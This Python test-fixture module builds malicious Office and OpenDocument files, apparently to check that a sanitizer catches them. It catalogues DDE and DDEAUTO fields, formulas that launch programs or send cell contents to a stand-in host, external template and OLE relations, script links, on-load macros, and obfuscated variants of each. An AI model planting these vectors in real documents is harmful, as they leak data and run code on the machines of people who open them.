"""Documents that fetch or run something when somebody opens them, made from those of the corpus.

Each says SPY or RUN where the harm is, and LAST where a field or formula has its last value, which must stay.
"""

from __future__ import annotations

import zipfile
from dataclasses import dataclass
from pathlib import Path

from tests.base.files import letters

SPY, RUN, LAST = "pengintai.example", "kalkulator-jahat", "nilai-terakhir-42"
HARM = (SPY, RUN)
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_O = {
    name: f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for name in ("office", "text", "table", "draw", "form", "script", "svg")
}


@dataclass(frozen=True)
class Attack:
    """What is put into which part of which document: before `end`, or as a part of its own where that is empty."""

    document: str
    part: str
    end: str
    added: str

    def made(self, path: Path, corpus: dict[str, Path]) -> Path:
        """The document, written to `path`."""
        source = corpus[self.document]
        return letters.repacked(path, source, {self.part: self._text(source)})

    def _text(self, source: Path) -> str:
        if not self.end:
            return self.added
        with zipfile.ZipFile(source) as archive:
            before = archive.read(self.part).decode()
        assert before.count(self.end) == 1, "there is one place for it"
        return before.replace(self.end, self.added + self.end)


def _letter(added: str) -> Attack:
    return Attack("surat.docx", "word/document.xml", "</w:body>", f"<w:p {_W}>{added}</w:p>")


def _field(*code: str, tag: str = "w:instrText") -> Attack:
    """A field of Word whose instruction lies in several runs, with its last value."""
    runs = "".join(f'<w:r><{tag} xml:space="preserve">{part}</{tag}></w:r>' for part in code)
    return _letter(
        f'<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{LAST}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _relation(kind: str, target: str = f"http://{SPY}/a", mode: str = ' TargetMode="External"') -> Attack:
    added = f'<Relationship Id="jahat" Type="{_TYPE}/{kind}" Target="{target}"{mode}/>'
    return Attack("surat.docx", "word/_rels/document.xml.rels", "</Relationships>", added)


def _cell(formula: str, attributes: str = "") -> Attack:
    added = f'<c r="B1" t="str"><f{attributes}>{formula}</f><v>{LAST}</v></c>'
    return Attack("daftar.xlsx", "xl/worksheets/sheet1.xml", "</row>", added)


def _workbook(added: str) -> Attack:
    return Attack("daftar.xlsx", "xl/workbook.xml", "</workbook>", added)


def _sheet_part(name: str) -> Attack:
    return Attack("daftar.xlsx", name, "", f'<a url="http://{SPY}/a" command="{RUN}"><b>{RUN}</b></a>')


def _open(added: str, document: str = "surat.odt") -> Attack:
    names, end = " ".join(_O.values()), "</office:text>" if document == "surat.odt" else "</office:spreadsheet>"
    return Attack(document, "content.xml", end, f'<text:section {names} xmlns:xlink="http://www.w3.org/1999/xlink">{added}'
                  f"<text:p>{LAST}</text:p></text:section>")  # fmt: skip


def _reckoned(attribute: str, value: str) -> Attack:
    return _open(f'<table:table-cell {attribute}="{value}"><text:p>{LAST}</text:p></table:table-cell>', "daftar.ods")


_TO = f'xlink:href="http://{SPY}/a"'
ATTACKS: dict[str, Attack] = {
    # fields of Word
    "DDEAUTO": _field(f'DDEAUTO c:\\\\{RUN} "/k x"'),
    "DDE, in capitals and small letters": _field(f" dDe {RUN} x"),
    "DDEAUTO over four runs": _field("DD", "EAU", f"TO {RUN[:5]}", RUN[5:]),
    "INCLUDEPICTURE": _field(f'INCLUDEPICTURE "http://{SPY}/a.png" \\d'),
    "INCLUDETEXT": _field(f'INCLUDETEXT "\\\\\\\\{SPY}\\\\a"'),
    "IMPORT": _field(f"IMPORT {SPY}"),
    "LINK": _field(f"LINK Excel.Sheet {RUN}.xlsx"),
    "DATABASE": _field(f'DATABASE \\c "{RUN}"'),
    "RD": _field(f"RD {SPY}"),
    "HYPERLINK": _field(f'HYPERLINK "\\\\\\\\{SPY}\\\\a"'),
    "MACROBUTTON": _field(f"MACROBUTTON {RUN} Tekan"),
    "a field in a deleted run": _field(f"DDEAUTO {RUN}", tag="w:delInstrText"),
    "a field by a number": _field('QUOTE 68 68 69"', f"AUTO {RUN}"),
    "a simple field": _letter(f'<w:fldSimple w:instr="DDEAUTO {RUN}"><w:r><w:t>{LAST}</w:t></w:r></w:fldSimple>'),
    "a field under another prefix": Attack(
        "surat.docx", "word/document.xml", "</w:body>",
        f'<x:p xmlns:x="{_W[9:-1]}"><x:fldSimple x:instr="INCLUDETEXT {SPY}"><x:r><x:t>{LAST}</x:t></x:r></x:fldSimple>'
        "</x:p>",
    ),
    "a macro on leaving a form field": _letter(f'<w:ffData><w:exitMacro w:val="{RUN}"/></w:ffData>'),
    # Word: other documents
    "altChunk": _letter(f'<w:altChunk r:id="jahat" w:name="{RUN}"/>'),
    "a relation to a chunk of HTML": _relation("aFChunk", f"media/{RUN}.html", ""),
    "a relation to a chunk that looks like a picture": _relation("aFChunk", f"media/{RUN}.png", ""),
    "a chunk of HTML": Attack("surat.docx", "word/media/a.html", "", f'<img src="http://{SPY}/a"/>'),
    **{f"a relation of the kind {kind}": _relation(kind) for kind in (
        "attachedTemplate", "frame", "subDocument", "oleObject", "image", "aFChunk", "header", "externalLinkPath",
        "mailMergeSource", "video", "customXml")},
    "a link to a machine nearby": _relation("hyperlink", f"file://{SPY}/a"),
    "a link that is a script": _relation("hyperlink", f"javascript:{RUN}"),
    "a link behind a blank": _relation("hyperlink", f" file://{SPY}/a"),
    "a link behind what can't be seen": _relation("hyperlink", f"\u00a0\u200bfile://{SPY}/a"),
    "a link by numbers": _relation("hyperlink", f"%66ile://{SPY}/a"),
    "a link over two lines": _relation("hyperlink", f"java&#10;script:{RUN}"),
    "a link to a machine nearby, behind a blank": _relation("hyperlink", f" \\\\{SPY}\\a"),
    "a link to a file beside": _relation("hyperlink", f"{SPY}.lnk"),
    "a relation whose mode is misspelt": _relation("image", mode=' TargetMode="external"'),
    "a template": Attack("surat.docx", "word/_rels/header1.xml.rels", "", '<Relationships xmlns="urn:relationships">'
                         f'<Relationship Id="a" Type="{_TYPE}/attachedTemplate" Target="http://{SPY}/a.dotm" '
                         'TargetMode="External"/></Relationships>'),
    "a ribbon of its own": Attack("surat.docx", "customUI/customUI.xml", "", f'<customUI onLoad="{RUN}"/>'),
    "keys that run": Attack("surat.docx", "word/customizations.xml", "", f'<a macroName="{RUN}"/>'),
    "a film from the web": _letter(f'<wp15:webVideoPr xmlns:wp15="urn:wp15" embeddedHtml="&lt;iframe src={SPY}&gt;"/>'),
    "a picture of VML": _letter(f'<w:pict><v:imagedata xmlns:v="urn:v" src="http://{SPY}/a.png"/></w:pict>'),
    "a filling of VML": _letter(f'<w:pict><v:fill xmlns:v="urn:v" xmlns:o="urn:o" o:althref="http://{SPY}/a"/></w:pict>'),
    "a picture that is drawn": Attack("surat.docx", "word/media/a.svg", "", f'<svg><image href="http://{SPY}/a"/></svg>'),
    "who may write here": _letter(f'<w:permStart w:id="1" w:ed="{SPY}"/><w:permEnd w:id="1"/>'),
    "a picture described by its place": _letter(f'<wp:docPr xmlns:wp="urn:wp" descr="C:\\Users\\{SPY}\\foto.jpg"/>'),
    "a place in a link": _letter(f'<w:hyperlink w:docLocation="\\\\{SPY}\\a"><w:r><w:t>a</w:t></w:r></w:hyperlink>'),
    "a share with one slash": _relation("hyperlink", f"\\/{SPY}/a"),
    # Excel
    "who refreshed a table": Attack(
        "daftar.xlsx", "xl/pivotCache/pivotCacheDefinition1.xml", "", f'<pivotCacheDefinition refreshedBy="{SPY}"/>'),
    "whose view it is": _workbook(f'<customWorkbookViews><customWorkbookView name="{SPY}"/></customWorkbookViews>'),
    "where it publishes itself": _workbook(
        f'<webPublishObjects><webPublishObject destinationFile="\\\\{SPY}\\a.htm"/></webPublishObjects>'),
    "WEBSERVICE": _cell(f'WEBSERVICE("http://{SPY}/"&amp;A1)'),
    "WEBSERVICE, split": _cell(f'WEB<!-- -->SERVICE("http://{SPY}/")'),
    "WEBSERVICE by number": _cell(f'_xlfn.WEB&#83;ERVICE("http://{SPY}/")'),
    "HYPERLINK in a cell": _cell(f'HYPERLINK("http://{SPY}/?"&amp;A1,"Buka")'),
    "IMAGE": _cell(f'_xlfn.IMAGE("http://{SPY}/a.png")'),
    "IMPORTDATA": _cell(f'IMPORTDATA("http://{SPY}/a.csv")'),
    "INDIRECT": _cell(f"INDIRECT(\"'http://{SPY}/[a.xlsx]A'!A1\")"),
    "RTD": _cell(f'RTD("{RUN}",,"x")'),
    "CALL": _cell(f'CALL("{RUN}","x","J")'),
    "a program by DDE": _cell(f"{RUN}|'/C calc'!A0"),
    "a program by DDE after quotes": _cell(f"IF(A1=\"it's\",{RUN}|'/C calc'!A0,\"a'!\")"),
    "another workbook": _cell(f"'\\\\{SPY}\\[a.xlsx]A'!A1"),
    "a formula for many cells": _cell(f'WEBSERVICE("http://{SPY}")', ' t="shared" si="0" ref="B1:B2"'),
    "a formula with something in it": _cell(f'SUM(<x/>WEBSERVICE("http://{SPY}"))'),
    "a formula behind something": _cell(f'<x/>WEBSERVICE("http://{SPY}")'),
    "a name that runs": _workbook(f"<definedNames><definedName name=\"a\">{RUN}|'/C'!A0</definedName></definedNames>"),
    "a condition that fetches": Attack(
        "daftar.xlsx", "xl/worksheets/sheet1.xml", "<pageSetup",
        f'<conditionalFormatting><cfRule><formula>WEBSERVICE("http://{SPY}")</formula></cfRule></conditionalFormatting>',
    ),
    "a chart of another workbook": Attack("daftar.xlsx", "xl/charts/chart1.xml", "",
                                          f"<c:f xmlns:c='urn:c'>'\\\\{SPY}\\[a.xlsx]A'!A1</c:f>"),
    "a button with a macro": Attack("daftar.xlsx", "xl/drawings/drawing1.xml", "",
                                    f'<xdr:sp xmlns:xdr="urn:xdr" macro="[1]!{RUN}" textlink="[1]!{RUN}"/>'),
    "a button of VML": Attack("daftar.xlsx", "xl/drawings/vmlDrawing1.vml", "",
                              f'<xml xmlns:x="urn:x"><x:FmlaMacro>[1]!{RUN}</x:FmlaMacro></xml>'),
    "an external link": _sheet_part("xl/externalLinks/externalLink1.xml"),
    "connections": _sheet_part("xl/connections.xml"),
    "a query": _sheet_part("xl/queryTables/queryTable1.xml"),
    "a control": _sheet_part("xl/ctrlProps/ctrlProp1.xml"),
    "volatile data": _sheet_part("xl/volatileDependencies.xml"),
    "a model of data": _sheet_part("xl/model/item.data"),
    "a DDE link where none belongs": _workbook(f'<ddeLink ddeService="{RUN}" ddeTopic="/C"/>'),
    # OpenDocument
    **{f"{name} from outside": _open(f"<{name} {_TO}/>") for name in (
        "draw:image", "draw:object", "draw:object-ole", "draw:plugin", "draw:applet", "draw:floating-frame",
        "draw:fill-image", "svg:font-face-uri", "text:section-source", "table:cell-range-source",
        "table:table-source")},
    "a program in place of a link": _open(f'<text:a xlink:href="vnd.sun.star.script:{RUN}?language=Basic">x</text:a>'),
    "a link by DDE": _open(f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="{RUN}"/>'
                           "</table:dde-link></table:dde-links>"),
    "a section by DDE": _open(f'<office:dde-source office:dde-application="{RUN}" office:automatic-update="true"/>'),
    "a declared DDE": _open(f'<text:dde-connection-decls><text:dde-connection-decl office:dde-application="{RUN}"/>'
                            "</text:dde-connection-decls>"),
    "a form that sends": _open(f'<office:forms><form:form {_TO}><form:button form:name="{RUN}"/></form:form>'
                               "</office:forms>"),
    "an event": _open(f'<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:{RUN}"/>'
                      "</office:event-listeners>"),
    "a script": _open(f'<text:script script:language="JavaScript">{RUN}</text:script>'),
    "scripts of the document": _open(f"<office:scripts><office:script>{RUN}</office:script></office:scripts>"),
    "a macro as a field": _open(f'<text:execute-macro text:name="{RUN}">Tekan</text:execute-macro>'),
    "a database": _open(f'<table:database-source-sql table:database-name="{RUN}"/>'),
    "settings with a macro": Attack("surat.odt", "settings.xml", "</office:document-settings>",
                                    f'<config:config-item config:name="OnLoadMacro">{RUN}</config:config-item>'),
    "WEBSERVICE of OpenDocument": _reckoned("table:formula", f"of:=WEBSERVICE(&quot;http://{SPY}&quot;)"),
    "DDE as a formula": _reckoned("table:formula", f"of:=DDE(&quot;{RUN}&quot;;&quot;/C&quot;;&quot;x&quot;)"),
    "cells of another file": _reckoned("table:formula", f"of:=['http://{SPY}/a.ods'#$A.A1]"),
    "a condition of OpenDocument": _reckoned("table:condition", f"of:is-true-formula(WEBSERVICE(&quot;{SPY}&quot;))"),
    "a range in another file": _reckoned("table:cell-range-address", f"'http://{SPY}/a.ods'#$A.A1"),
    "an event in a folder of its own": Attack("surat.odt", "Events/a.xml", "", f"<a>{RUN}</a>"),
}  # fmt: skip
